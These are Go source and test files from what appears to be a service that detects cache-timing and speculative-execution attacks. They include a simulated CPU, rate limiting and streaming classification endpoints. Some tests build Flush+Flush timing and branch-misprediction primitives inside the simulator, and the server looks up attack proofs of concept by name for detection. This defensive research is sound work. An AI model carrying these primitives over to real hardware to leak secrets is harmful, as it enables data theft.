func NewMemory() *Memory {
	return &Memory{pages: make(map[uint64][]byte)}
}

func (m *Memory) page(addr uint64, create bool) []byte {
	pn := addr >> pageShift
	p := m.pages[pn]
	if p == nil && create {
		p = make([]byte, pageSize)
		m.pages[pn] = p
	}
	return p
}

// LoadByte reads one byte (0 for untouched memory).
func (m *Memory) LoadByte(addr uint64) byte {
	p := m.page(addr, false)
	if p == nil {
		return 0
	}
	return p[addr&(pageSize-1)]
}

// StoreByte writes one byte.
func (m *Memory) StoreByte(addr uint64, v byte) {
	p := m.page(addr, true)
	p[addr&(pageSize-1)] = v
}

// Load64 reads a little-endian 64-bit word at any alignment.
func (m *Memory) Load64(addr uint64) uint64 {
	var v uint64
	for i := uint64(0); i < 8; i++ {
		v |= uint64(m.LoadByte(addr+i)) << (8 * i)
	}
	return v
}

// Store64 writes a little-endian 64-bit word at any alignment.
func (m *Memory) Store64(addr uint64, v uint64) {
	for i := uint64(0); i < 8; i++ {
		m.StoreByte(addr+i, byte(v>>(8*i)))
	}
}

// WriteBytes copies b into memory starting at addr.
func (m *Memory) WriteBytes(addr uint64, b []byte) {
	for i, v := range b {
		m.StoreByte(addr+uint64(i), v)
	}
}

// PageCount returns the number of touched pages (for tests).
func (m *Memory) PageCount() int { return len(m.pages) }
