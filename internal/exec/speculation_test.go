package exec

import (
	"testing"

	"repro/internal/hpc"
	"repro/internal/isa"
)

// trainTaken returns a builder fragment that trains the predictor at a
// branch to "taken" so a later not-taken resolution mispredicts.
func buildMispredictProgram(body func(b *isa.Builder)) *isa.Program {
	b := isa.NewBuilder("spec", 0x1000)
	// Loop 4 times: branch taken x4 trains the 2-bit counter to taken.
	b.Mov(isa.R(isa.R0), isa.Imm(4)).
		Label("loop").
		Dec(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(0)).
		Jg("loop")
	// Now the Jg above resolves not-taken while predicted taken: the
	// transient path re-enters "loop" and executes the body below? No —
	// the transient path is the loop body again. For explicit control we
	// instead build a dedicated branch whose wrong path is `body`.
	b.Mov(isa.R(isa.R1), isa.Imm(3)).
		Label("train").
		Cmp(isa.R(isa.R1), isa.Imm(0)).
		Je("past"). // not taken while R1>0: trains toward not-taken
		Dec(isa.R(isa.R1)).
		Jmp("train").
		Label("past")
	// At this point the Je at "train" was taken once (when R1==0): on
	// that final iteration the predictor (trained not-taken) mispredicts
	// and transiently executes the fallthrough (Dec/Jmp) — harmless.
	body(b)
	b.Hlt()
	return b.MustBuild()
}

func TestSpeculativeStoresAreSuppressed(t *testing.T) {
	// A store on the wrong path of a mispredicted branch must not hit
	// memory. Construct: train branch taken; final not-taken run makes
	// the *taken target* the transient path containing a store.
	b := isa.NewBuilder("st-sup", 0)
	flag := b.Bytes("flag", 8, false)
	b.Mov(isa.R(isa.R0), isa.Imm(3)).
		Label("loop").
		// While R0 > 0 the branch to "poison" is NOT taken... invert:
		// branch taken while R0>0 trains taken; last iteration falls
		// through and transiently executes "poison".
		Cmp(isa.R(isa.R0), isa.Imm(0)).
		Jle("out").
		Dec(isa.R(isa.R0)).
		Jmp("loop").
		Label("out").
		Jmp("end").
		Label("poison").
		Mov(isa.Mem(isa.RegNone, int64(flag)), isa.Imm(0xbad)).
		Label("end").
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	m.Run()
	if got := m.Memory().Load64(flag); got != 0 {
		t.Errorf("speculative store leaked to memory: %#x", got)
	}
}

func TestSerializingInstructionStopsSpeculation(t *testing.T) {
	// Transient path begins with LFENCE: no transient instructions may
	// be counted beyond it.
	b := isa.NewBuilder("fence", 0)
	probe := b.Bytes("probe", 64, false)
	// Train Je to not-taken, then a taken resolution speculates into the
	// fallthrough which starts with LFENCE followed by a load.
	b.Mov(isa.R(isa.R0), isa.Imm(4)).
		Label("loop").
		Dec(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(0)).
		Jne("loop"). // taken x3 (trains taken), then not-taken once
		Jmp("end").
		Label("trans"). // never architecturally reached
		Lfence().
		Mov(isa.R(isa.R1), isa.Mem(isa.RegNone, int64(probe))).
		Label("end").
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	m.Run()
	// The loop-exit misprediction's transient path is the loop body (at
	// "loop"), not "trans"; what we really assert is the general
	// invariant: the probe line was never touched because no transient
	// path reaches it past a fence.
	if m.Hierarchy().Cached(probe) {
		t.Error("speculation ran past a serializing fence")
	}
}

func TestTransientCountingOnlyForMonitored(t *testing.T) {
	// A victim with heavy misprediction must not inflate the monitored
	// trace's transient counter.
	vb := isa.NewBuilder("victim", 0x800000)
	buf := uint64(0x30000000)
	vb.Mov(isa.R(isa.R0), isa.Imm(0)).
		Label("loop").
		Mov(isa.R(isa.R1), isa.R(isa.R0)).
		And(isa.R(isa.R1), isa.Imm(1)).
		Test(isa.R(isa.R1), isa.R(isa.R1)).
		Je("even").
		Mov(isa.R(isa.R2), isa.Mem(isa.RegNone, int64(buf))).
		Label("even").
		Inc(isa.R(isa.R0)).
		Jmp("loop")
	victim := vb.MustBuild()

	ab := isa.NewBuilder("quiet", 0x400000)
	ab.Mov(isa.R(isa.R0), isa.Imm(2000)).
		Label("spin").
		Dec(isa.R(isa.R0)).
		Jne("spin").
		Hlt()
	attacker := ab.MustBuild()

	m, _ := NewMachine(DefaultConfig(), attacker, victim)
	tr := m.Run()
	// The attacker's only branches are the well-predicted spin loop (one
	// exit misprediction; its transient path re-executes the loop body).
	if tr.Transient > uint64(DefaultConfig().SpecWindow) {
		t.Errorf("monitored transient count %d includes victim work", tr.Transient)
	}
}

func TestBranchMissAttribution(t *testing.T) {
	// A data-dependent unpredictable branch yields many branch misses;
	// they must be attributed to the branch PC.
	b := isa.NewBuilder("bm", 0)
	data := b.DataInit("data", 64*8, alternating(64), false)
	b.Mov(isa.R(isa.R0), isa.Imm(0)).
		Mov(isa.R(isa.R3), isa.Imm(0)).
		Label("loop").
		Lea(isa.R1, isa.MemIdx(isa.RegNone, isa.R0, 8, int64(data))).
		Mov(isa.R(isa.R2), isa.Mem(isa.R1, 0)).
		Test(isa.R(isa.R2), isa.R(isa.R2)).
		Je("skip").
		Inc(isa.R(isa.R3)).
		Label("skip").
		Inc(isa.R(isa.R0)).
		Cmp(isa.R(isa.R0), isa.Imm(64)).
		Jl("loop").
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	tr := m.Run()
	misses := tr.Bank.Global()[hpc.BranchMiss]
	if misses < 10 {
		t.Errorf("alternating branch produced only %d misses", misses)
	}
	// Attribution: some PC holds most of them.
	var best uint64
	for _, a := range tr.Addrs() {
		if c := tr.Bank.At(a)[hpc.BranchMiss]; c > best {
			best = c
		}
	}
	if best < misses/2 {
		t.Errorf("branch misses not concentrated on the branch PC: best=%d total=%d", best, misses)
	}
}

func alternating(n int) []byte {
	out := make([]byte, n*8)
	for i := 0; i < n; i += 2 {
		out[i*8] = 1
	}
	return out
}

func TestFlushFlushTimingDifference(t *testing.T) {
	// The Flush+Flush primitive at machine level: timing clflush of a
	// cached line vs an uncached line.
	b := isa.NewBuilder("ff", 0)
	line := b.Bytes("line", 64, false)
	res := b.Bytes("res", 16, false)
	// Cached flush.
	b.Mov(isa.R(isa.R0), isa.Mem(isa.RegNone, int64(line))).
		Rdtscp(isa.R1).
		Clflush(isa.Mem(isa.RegNone, int64(line))).
		Rdtscp(isa.R2).
		Sub(isa.R(isa.R2), isa.R(isa.R1)).
		Mov(isa.Mem(isa.RegNone, int64(res)), isa.R(isa.R2))
	// Uncached flush.
	b.Rdtscp(isa.R1).
		Clflush(isa.Mem(isa.RegNone, int64(line))).
		Rdtscp(isa.R2).
		Sub(isa.R(isa.R2), isa.R(isa.R1)).
		Mov(isa.Mem(isa.RegNone, int64(res+8)), isa.R(isa.R2)).
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	m.Run()
	cached := m.Memory().Load64(res)
	uncached := m.Memory().Load64(res + 8)
	if cached <= uncached {
		t.Errorf("flush timing channel broken: cached=%d uncached=%d", cached, uncached)
	}
}

func TestRetWithoutCallHalts(t *testing.T) {
	// RET pops garbage (zero) -> jumps to address 0 outside the program
	// -> fault-halt, no hang.
	b := isa.NewBuilder("ret", 0x100)
	b.Ret()
	p := b.MustBuild()
	cfg := DefaultConfig()
	cfg.MaxRetired = 1000
	m, _ := NewMachine(cfg, p, nil)
	tr := m.Run()
	if tr.Retired > 2 {
		t.Errorf("runaway after bad RET: retired %d", tr.Retired)
	}
}

func TestPushMemAndPopRoundtrip(t *testing.T) {
	b := isa.NewBuilder("pm", 0)
	buf := b.DataInit("buf", 8, []byte{0x2a}, false)
	b.Push(isa.Mem(isa.RegNone, int64(buf))).
		Pop(isa.R(isa.R3)).
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	m.Run()
	if got := m.RegisterOfMonitored(isa.R3); got != 0x2a {
		t.Errorf("push mem/pop = %#x", got)
	}
}

func TestNestedCalls(t *testing.T) {
	b := isa.NewBuilder("nest", 0)
	b.Call("a").
		Hlt().
		Label("a").
		Call("b").
		Inc(isa.R(isa.R0)).
		Ret().
		Label("b").
		Call("c").
		Inc(isa.R(isa.R0)).
		Ret().
		Label("c").
		Inc(isa.R(isa.R0)).
		Ret()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	tr := m.Run()
	if !tr.Halted {
		t.Fatal("nested calls broke control flow")
	}
	if got := m.RegisterOfMonitored(isa.R0); got != 3 {
		t.Errorf("r0 = %d, want 3", got)
	}
}

func TestMemoryOperandALU(t *testing.T) {
	b := isa.NewBuilder("memalu", 0)
	buf := b.DataInit("buf", 8, []byte{10}, false)
	b.Add(isa.Mem(isa.RegNone, int64(buf)), isa.Imm(5)).
		Xor(isa.Mem(isa.RegNone, int64(buf)), isa.Imm(3)).
		Hlt()
	p := b.MustBuild()
	m, _ := NewMachine(DefaultConfig(), p, nil)
	m.Run()
	if got := m.Memory().Load64(buf); got != (15 ^ 3) {
		t.Errorf("mem ALU = %d", got)
	}
}

func TestBuildMispredictHelperRuns(t *testing.T) {
	p := buildMispredictProgram(func(b *isa.Builder) {
		b.Nop()
	})
	m, _ := NewMachine(DefaultConfig(), p, nil)
	if tr := m.Run(); !tr.Halted {
		t.Fatal("helper program did not halt")
	}
}
