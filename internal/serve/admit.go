package serve

import (
	"errors"
	"math"
	"sync"
	"time"

	"repro/internal/faultinject"
)

// errOverloaded is the admission gate's shed signal; handlers turn it
// into 429 + Retry-After. It is never returned to callers of the
// package API.
var errOverloaded = errors.New("serve: overloaded")

// gate is the server's admission control: a global concurrency cap
// (how many admitted requests may be in flight at once, the protection
// against a thundering herd exhausting the process) and a per-API-key
// token bucket (fair queueing across clients under sustained overload
// — one greedy key drains its own bucket, not its neighbors').
//
// Admission never blocks: a request that cannot be admitted right now
// is shed immediately with a Retry-After hint, so overload degrades to
// fast 429s instead of growing queues — the stream pipeline's
// backpressure bounds work per admitted connection, the gate bounds
// how many connections get that far.
type gate struct {
	// slots is the global concurrency semaphore.
	slots chan struct{}
	// rate is tokens/sec added per key, burst the bucket capacity.
	// rate <= 0 disables per-key limiting.
	rate  float64
	burst float64

	mu      sync.Mutex
	buckets map[string]*bucket
	now     func() time.Time // test seam
}

// maxKeys bounds the bucket map: under a key-churning client the
// oldest-refilled buckets are evicted, which at worst refunds an
// attacker its own burst, never a well-behaved key's standing.
const maxKeys = 4096

type bucket struct {
	tokens float64
	last   time.Time
}

func newGate(maxConcurrent int, rate float64, burst int) *gate {
	if maxConcurrent <= 0 {
		maxConcurrent = DefaultMaxConcurrent
	}
	b := float64(burst)
	if b <= 0 {
		b = math.Max(1, 2*rate)
	}
	return &gate{
		slots:   make(chan struct{}, maxConcurrent),
		rate:    rate,
		burst:   b,
		buckets: make(map[string]*bucket),
		now:     time.Now,
	}
}

// admit tries to admit one request charging n rate tokens against key.
// On success release must be called when the request finishes (it
// returns the concurrency slot). On overload it returns errOverloaded
// with the Retry-After hint; admit itself never blocks.
func (g *gate) admit(key string, n int) (release func(), retryAfter time.Duration, err error) {
	if err := faultinject.Fire(faultinject.ServeAdmit, key); err != nil {
		return nil, time.Second, errOverloaded
	}
	select {
	case g.slots <- struct{}{}:
	default:
		// Saturated cap: the hint is a guess (we cannot know when a
		// slot frees), so suggest the shortest honest backoff.
		return nil, time.Second, errOverloaded
	}
	if wait := g.take(key, n); wait > 0 {
		<-g.slots
		return nil, wait, errOverloaded
	}
	return func() { <-g.slots }, 0, nil
}

// inflight returns the number of admitted requests currently holding a
// slot, and the cap.
func (g *gate) inflight() (int, int) { return len(g.slots), cap(g.slots) }

// keys returns the number of live per-key buckets.
func (g *gate) keys() int {
	g.mu.Lock()
	defer g.mu.Unlock()
	return len(g.buckets)
}

// take consumes n tokens from key's bucket, refilling lazily at g.rate.
// It returns 0 on success or the wait until enough tokens accrue. A
// charge above the burst is clamped to it, so an oversized batch is
// admitted once the bucket is full rather than never.
func (g *gate) take(key string, n int) time.Duration {
	if g.rate <= 0 {
		return 0
	}
	charge := math.Min(float64(n), g.burst)
	if charge < 1 {
		charge = 1
	}
	g.mu.Lock()
	defer g.mu.Unlock()
	now := g.now()
	b := g.buckets[key]
	if b == nil {
		if len(g.buckets) >= maxKeys {
			g.evictOldest()
		}
		b = &bucket{tokens: g.burst, last: now}
		g.buckets[key] = b
	}
	b.tokens = math.Min(g.burst, b.tokens+g.rate*now.Sub(b.last).Seconds())
	b.last = now
	if b.tokens >= charge {
		b.tokens -= charge
		return 0
	}
	need := (charge - b.tokens) / g.rate
	return time.Duration(math.Ceil(need * float64(time.Second)))
}

// evictOldest drops the least-recently-refilled bucket. Caller holds
// g.mu.
func (g *gate) evictOldest() {
	var oldest string
	var when time.Time
	for k, b := range g.buckets {
		if oldest == "" || b.last.Before(when) {
			oldest, when = k, b.last
		}
	}
	delete(g.buckets, oldest)
}

// retryAfterSeconds rounds a wait up to the whole seconds Retry-After
// carries, with a 1s floor so clients never busy-loop.
func retryAfterSeconds(d time.Duration) int {
	s := int(math.Ceil(d.Seconds()))
	if s < 1 {
		s = 1
	}
	return s
}
