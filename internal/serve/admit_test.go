package serve

import (
	"fmt"
	"testing"
	"time"
)

// fakeClock drives the gate's refill math deterministically.
type fakeClock struct{ t time.Time }

func (c *fakeClock) now() time.Time          { return c.t }
func (c *fakeClock) advance(d time.Duration) { c.t = c.t.Add(d) }

func newTestGate(maxConcurrent int, rate float64, burst int) (*gate, *fakeClock) {
	g := newGate(maxConcurrent, rate, burst)
	c := &fakeClock{t: time.Unix(1_700_000_000, 0)}
	g.now = c.now
	return g, c
}

func TestGateConcurrencyCap(t *testing.T) {
	g, _ := newTestGate(2, 0, 0)
	r1, _, err := g.admit("a", 1)
	if err != nil {
		t.Fatal(err)
	}
	r2, _, err := g.admit("b", 1)
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := g.admit("c", 1); err == nil {
		t.Fatal("third admit above cap 2 succeeded")
	}
	if used, capacity := g.inflight(); used != 2 || capacity != 2 {
		t.Fatalf("inflight = %d/%d, want 2/2", used, capacity)
	}
	r1()
	r3, _, err := g.admit("c", 1)
	if err != nil {
		t.Fatalf("admit after release: %v", err)
	}
	r2()
	r3()
	if used, _ := g.inflight(); used != 0 {
		t.Fatalf("inflight after releases = %d, want 0", used)
	}
}

func TestGateTokenRefill(t *testing.T) {
	g, clock := newTestGate(16, 1, 2) // 1 token/sec, burst 2
	take := func(n int) (time.Duration, bool) {
		release, wait, err := g.admit("k", n)
		if err == nil {
			release()
		}
		return wait, err == nil
	}
	if _, ok := take(2); !ok {
		t.Fatal("full bucket refused its burst")
	}
	wait, ok := take(1)
	if ok {
		t.Fatal("empty bucket admitted")
	}
	if wait <= 0 || wait > time.Second {
		t.Fatalf("retry hint %v, want (0, 1s]", wait)
	}
	clock.advance(1500 * time.Millisecond)
	if _, ok := take(1); !ok {
		t.Fatal("refilled bucket refused one token")
	}
}

func TestGateBurstClampAdmitsOversizedBatch(t *testing.T) {
	g, _ := newTestGate(16, 1, 4)
	// A batch larger than the burst is charged the burst, so a full
	// bucket admits it rather than shedding it forever.
	release, _, err := g.admit("k", 100)
	if err != nil {
		t.Fatalf("oversized batch against full bucket shed: %v", err)
	}
	release()
	if _, wait, err := g.admit("k", 1); err == nil {
		t.Fatal("bucket should be empty after the clamped charge")
	} else if wait <= 0 {
		t.Fatal("shed without a retry hint")
	}
}

func TestGateKeyEviction(t *testing.T) {
	g, clock := newTestGate(16, 1000, 1000)
	for i := 0; i < maxKeys+10; i++ {
		clock.advance(time.Millisecond)
		release, _, err := g.admit(fmt.Sprintf("key-%d", i), 1)
		if err != nil {
			t.Fatalf("key %d shed: %v", i, err)
		}
		release()
	}
	if n := g.keys(); n > maxKeys {
		t.Fatalf("bucket map grew to %d, cap is %d", n, maxKeys)
	}
}

func TestGateUnlimitedWithoutRate(t *testing.T) {
	g, _ := newTestGate(16, 0, 0)
	for i := 0; i < 50; i++ {
		release, _, err := g.admit("k", 10)
		if err != nil {
			t.Fatalf("rateless gate shed request %d: %v", i, err)
		}
		release()
	}
}

func TestRetryAfterSecondsFloor(t *testing.T) {
	cases := []struct {
		d    time.Duration
		want int
	}{
		{0, 1},
		{10 * time.Millisecond, 1},
		{time.Second, 1},
		{1100 * time.Millisecond, 2},
		{5 * time.Second, 5},
	}
	for _, c := range cases {
		if got := retryAfterSeconds(c.d); got != c.want {
			t.Errorf("retryAfterSeconds(%v) = %d, want %d", c.d, got, c.want)
		}
	}
}
