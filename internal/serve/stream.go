package serve

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"sync"
	"time"

	"repro/internal/stream"
	"repro/internal/telemetry"
)

// handleClassifyStream is POST /v1/classify/stream: newline-delimited
// JSON TargetSpec values in, one NDJSON Verdict line per input line
// out, in input order. The connection is one streaming pipeline
// (internal/stream): targets are classified as they arrive with
// bounded buffering and per-target fault isolation, and a slow reader
// of the response exerts backpressure all the way to the request body.
//
// A line that fails to resolve gets an error verdict line; a line that
// fails to parse as JSON gets an error verdict line and ends the
// stream (the byte stream is no longer trustworthy). On server drain
// the connection stops reading further targets, flushes verdicts for
// everything accepted, and closes.
//
// ?mode=window switches the connection to the online sliding-window
// variant (handleWindowStream): per-window verdict lines plus a
// summary line per target, tuned by the window/stride/quiet-gap query
// parameters.
func (s *Server) handleClassifyStream(w http.ResponseWriter, r *http.Request) {
	if r.Method != http.MethodPost {
		writeError(w, http.StatusMethodNotAllowed, "POST only")
		return
	}
	switch mode := r.URL.Query().Get("mode"); mode {
	case "", "classify":
	case "window":
		wcfg, err := windowParams(r.URL.Query())
		if err != nil {
			writeError(w, http.StatusBadRequest, err.Error())
			return
		}
		s.handleWindowStream(w, r, wcfg)
		return
	default:
		writeError(w, http.StatusBadRequest, fmt.Sprintf("unknown mode %q (want classify or window)", mode))
		return
	}
	if !s.enter() {
		drainingReply(w)
		return
	}
	defer s.inflight.Done()
	release, retryAfter, err := s.gate.admit(r.Header.Get(s.cfg.KeyHeader), 1)
	if err != nil {
		s.shed(w, retryAfter)
		return
	}
	defer release()
	s.tel.Inc(telemetry.ServeRequests)
	start := s.tel.Now()
	defer func() { s.tel.ObserveSince(telemetry.StageServeRequest, start) }()

	// HTTP/1 servers are half-duplex by default: the first response
	// write would try to drain the unread request body, deadlocking
	// against a client that streams targets as verdicts come back.
	// Full duplex is exactly this endpoint's contract. (HTTP/2 is
	// always full duplex; the call failing is fine.)
	rc := http.NewResponseController(w)
	_ = rc.EnableFullDuplex()

	w.Header().Set("Content-Type", "application/x-ndjson")
	w.WriteHeader(http.StatusOK)
	flusher, _ := w.(http.Flusher)
	// Send the headers now: a client streaming targets interactively
	// blocks on them before it writes its first line.
	if flusher != nil {
		flusher.Flush()
	}
	enc := json.NewEncoder(w)
	emit := func(v Verdict) {
		_ = enc.Encode(v)
		if flusher != nil {
			flusher.Flush()
		}
	}

	ctx := r.Context()
	in := make(chan stream.Target)
	out := stream.Classify(ctx, s.det, in, s.streamConfig())

	// The reader assigns every input line an output slot; targets that
	// never enter the pipeline (bad lines) park their error verdict in
	// bad, and slotOf maps pipeline sequence numbers back to slots so
	// the writer can interleave both streams in input order.
	var (
		mu     sync.Mutex
		bad    = map[int]Verdict{}
		slotOf []int
	)

	// A blocked body read must not stall a drain forever: when the
	// server starts draining, expire the connection's read deadline so
	// the decoder unblocks and the reader stops intake cleanly.
	done := make(chan struct{})
	defer close(done)
	go func() {
		select {
		case <-s.drainCh:
			_ = rc.SetReadDeadline(time.Now())
		case <-ctx.Done():
		case <-done:
		}
	}()

	go func() {
		defer close(in)
		dec := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxRequestBody))
		slot := 0
		for {
			select {
			case <-s.drainCh:
				return
			case <-ctx.Done():
				return
			default:
			}
			var ts TargetSpec
			if err := dec.Decode(&ts); err != nil {
				if errors.Is(err, io.EOF) || s.isDraining() || isTimeout(err) {
					return
				}
				mu.Lock()
				bad[slot] = Verdict{ID: "line", Error: "bad target line: " + err.Error()}
				mu.Unlock()
				return
			}
			id := ts.label(slot)
			prog, victim, rerr := ts.resolve()
			if rerr != nil {
				mu.Lock()
				bad[slot] = Verdict{ID: id, Error: "resolve: " + rerr.Error()}
				mu.Unlock()
				slot++
				continue
			}
			mu.Lock()
			slotOf = append(slotOf, slot)
			mu.Unlock()
			slot++
			select {
			case in <- stream.Target{ID: id, Program: prog, Victim: victim}:
			case <-ctx.Done():
				mu.Lock()
				slotOf = slotOf[:len(slotOf)-1]
				mu.Unlock()
				return
			}
		}
	}()

	// Writer: pipeline results arrive ordered by Seq, hence by slot;
	// every bad slot below the next pipeline slot was recorded before
	// that target was sent, so flushing gaps first preserves exact
	// input order.
	next := 0
	flushBadBelow := func(limit int) {
		for {
			mu.Lock()
			v, ok := bad[next]
			mu.Unlock()
			if !ok || next >= limit {
				return
			}
			emit(v)
			next++
		}
	}
	for res := range out {
		mu.Lock()
		slot := slotOf[res.Seq]
		mu.Unlock()
		flushBadBelow(slot)
		emit(verdictFor(res.ID, res.Verdict, res.Model, res.Err))
		next = slot + 1
	}
	// The pipeline closed, so the reader is done and every remaining
	// verdict is a parked bad line.
	flushBadBelow(int(^uint(0) >> 1))
}

// isDraining reports the server's drain flag.
func (s *Server) isDraining() bool {
	s.drainMu.Lock()
	defer s.drainMu.Unlock()
	return s.draining
}

// isTimeout reports a deadline-expired read — the drain watcher's way
// of unblocking the decoder.
func isTimeout(err error) bool {
	var ne interface{ Timeout() bool }
	if errors.As(err, &ne) {
		return ne.Timeout()
	}
	return errors.Is(err, os.ErrDeadlineExceeded)
}
