package serve

import (
	"errors"
	"fmt"
	"strconv"
	"strings"

	"repro/internal/attacks"
	"repro/internal/benign"
	"repro/internal/detect"
	"repro/internal/isa"
	"repro/internal/model"
	"repro/internal/shard"
)

// The HTTP/JSON wire format of the detection service. Scores are finite
// float64s and encoding/json emits the shortest decimal that
// round-trips exactly, so a verdict read back from the wire is
// bit-identical to the detect.Result it was built from — the end-to-end
// tests compare with ==, not a tolerance (the same argument
// internal/shard's wire format makes).

// TargetSpec names one program to classify. Exactly one of Spec or
// Source must be set.
type TargetSpec struct {
	// ID labels the target in its verdict; it defaults to Spec, then
	// Name, then a positional label.
	ID string `json:"id,omitempty"`
	// Spec is a server-resolved target in the CLI's spec syntax:
	// "attack:NAME" (canonical or extension PoC) or
	// "benign:kind/template/seed" (generated benign program). The
	// CLI-only "file:" form is rejected — the server never reads its
	// local filesystem on a client's behalf.
	Spec string `json:"spec,omitempty"`
	// Source is an inline program in the textual assembly syntax
	// (isa.Parse), assembled server-side under the parser's resource
	// limits. Name names the program; it defaults to ID.
	Name   string `json:"name,omitempty"`
	Source string `json:"source,omitempty"`
}

// resolve turns the spec into a program plus its victim (attack PoCs
// carry one; benign and inline programs do not).
func (t TargetSpec) resolve() (prog, victim *isa.Program, err error) {
	switch {
	case t.Source != "" && t.Spec != "":
		return nil, nil, errors.New("target sets both spec and source")
	case t.Source != "":
		name := t.Name
		if name == "" {
			name = t.ID
		}
		if name == "" {
			name = "inline"
		}
		prog, err = isa.Parse(name, t.Source)
		return prog, nil, err
	case t.Spec != "":
		return resolveSpec(t.Spec)
	}
	return nil, nil, errors.New("target needs a spec or an inline source")
}

// label is the identity the target's verdict carries.
func (t TargetSpec) label(pos int) string {
	switch {
	case t.ID != "":
		return t.ID
	case t.Spec != "":
		return t.Spec
	case t.Name != "":
		return t.Name
	}
	return "target[" + strconv.Itoa(pos) + "]"
}

// resolveSpec resolves the "kind:value" spec syntax shared with the
// CLI's classify -stream mode, minus the file: form.
func resolveSpec(spec string) (*isa.Program, *isa.Program, error) {
	kind, rest, ok := strings.Cut(spec, ":")
	if !ok {
		return nil, nil, fmt.Errorf("target spec %q wants kind:value (attack:, benign:)", spec)
	}
	switch kind {
	case "attack":
		poc, err := attacks.ByName(rest, attacks.DefaultParams())
		if err != nil {
			return nil, nil, err
		}
		return poc.Program, poc.Victim, nil
	case "benign":
		parts := strings.Split(rest, "/")
		if len(parts) != 3 {
			return nil, nil, fmt.Errorf("benign spec wants kind/template/seed, got %q", rest)
		}
		seed, err := strconv.ParseInt(parts[2], 10, 64)
		if err != nil {
			return nil, nil, fmt.Errorf("bad seed in %q: %v", rest, err)
		}
		prog, err := benign.Generate(benign.Spec{Kind: benign.Kind(parts[0]), Template: parts[1], Seed: seed})
		return prog, nil, err
	case "file":
		return nil, nil, fmt.Errorf("file: specs are CLI-only; send the program inline via source")
	}
	return nil, nil, fmt.Errorf("unknown target spec kind %q (want attack:, benign:)", kind)
}

// classifyRequest is POST /v1/classify: one target (unary reply form)
// or a batch (array reply form). Setting both is rejected.
type classifyRequest struct {
	Target  *TargetSpec  `json:"target,omitempty"`
	Targets []TargetSpec `json:"targets,omitempty"`
}

// WireMatch mirrors detect.Match.
type WireMatch struct {
	Name   string  `json:"name"`
	Family string  `json:"family"`
	Score  float64 `json:"score"`
	Pruned bool    `json:"pruned,omitempty"`
}

// Verdict is one target's classification outcome. Error is the
// target's failure (resolution, modeling, scanning — one target's
// failure never fails the request); Partial marks a verdict degraded
// to the surviving shards of a sharded repository. On a mode=window
// stream, Window annotates a per-window verdict line and Summary marks
// the target's final summary line (see docs/WINDOWING.md).
type Verdict struct {
	ID        string             `json:"id"`
	Predicted string             `json:"predicted,omitempty"`
	Best      *WireMatch         `json:"best,omitempty"`
	Matches   []WireMatch        `json:"matches,omitempty"`
	ModelLen  int                `json:"model_len,omitempty"`
	Partial   bool               `json:"partial,omitempty"`
	Error     string             `json:"error,omitempty"`
	Window    *WireWindow        `json:"window,omitempty"`
	Summary   *WireWindowSummary `json:"window_summary,omitempty"`
}

// WireWindow annotates one per-window verdict line of a mode=window
// stream: the half-open cycle interval the verdict covers, how many
// log events fell in it, and — for windows that never reached the
// similarity comparison — the benign-by-construction reason
// (quiet-window, quiet-gap, model-too-short, no-timer-reads).
type WireWindow struct {
	Index    int    `json:"index"`
	Start    uint64 `json:"start"`
	End      uint64 `json:"end"`
	Events   int    `json:"events"`
	ModelLen int    `json:"model_len,omitempty"`
	Reason   string `json:"reason,omitempty"`
}

// WireWindowSummary is the final line of one target's windowed run:
// the window counts, whether anything malicious was flagged, and the
// latency-to-detection metric when it was. The carrying Verdict's
// Predicted/Best are the aggregate verdict (the highest-scoring
// window's result).
type WireWindowSummary struct {
	Windows            int    `json:"windows"`
	Hits               int    `json:"hits"`
	Quiet              int    `json:"quiet"`
	Errors             int    `json:"errors,omitempty"`
	Detected           bool   `json:"detected"`
	DetectionCycle     uint64 `json:"detection_cycle,omitempty"`
	LatencyToDetection uint64 `json:"latency_to_detection,omitempty"`
	FinalWindow        int    `json:"final_window"`
}

// classifyResponse is the /v1/classify reply: Verdict for the unary
// form, Verdicts (positionally matching the request) for the batch
// form.
type classifyResponse struct {
	Verdict  *Verdict  `json:"verdict,omitempty"`
	Verdicts []Verdict `json:"verdicts,omitempty"`
}

// errorResponse is any non-2xx JSON body.
type errorResponse struct {
	Error string `json:"error"`
	// RetryAfterSeconds mirrors the Retry-After header on 429/503.
	RetryAfterSeconds int `json:"retry_after_seconds,omitempty"`
}

// healthzResponse is GET /healthz. Status is "ok" (200) or "draining"
// (503, so load balancers stop routing here during shutdown).
type healthzResponse struct {
	Status   string `json:"status"`
	Entries  int    `json:"entries"`
	Version  uint64 `json:"version"`
	Draining bool   `json:"draining"`
}

// reloadRequest is POST /reload. Path optionally overrides the
// server's configured repository source; empty reloads the default.
type reloadRequest struct {
	Path string `json:"path,omitempty"`
}

// reloadResponse reports the repository after a successful swap.
type reloadResponse struct {
	Entries int    `json:"entries"`
	Version uint64 `json:"version"`
}

// verdictFor converts one classification outcome to the wire. A
// *shard.PartialError is a degraded success (the result covers the
// surviving shards); any other error is the target's failure.
func verdictFor(id string, res detect.Result, m *model.Model, err error) Verdict {
	v := Verdict{ID: id}
	if err != nil {
		var pe *shard.PartialError
		if !errors.As(err, &pe) {
			v.Error = err.Error()
			return v
		}
		v.Partial = true
	}
	v.Predicted = string(res.Predicted)
	best := WireMatch{Name: res.Best.Name, Family: string(res.Best.Family), Score: res.Best.Score, Pruned: res.Best.Pruned}
	v.Best = &best
	v.Matches = make([]WireMatch, len(res.Matches))
	for i, mt := range res.Matches {
		v.Matches[i] = WireMatch{Name: mt.Name, Family: string(mt.Family), Score: mt.Score, Pruned: mt.Pruned}
	}
	if m != nil {
		v.ModelLen = m.BBS.Len()
	}
	return v
}
