package serve

// mode=window stream tests: the NDJSON wire variant of the online
// sliding-window detector. Per-window lines carry the Window
// annotation, each target ends with a summary line, bad geometry is
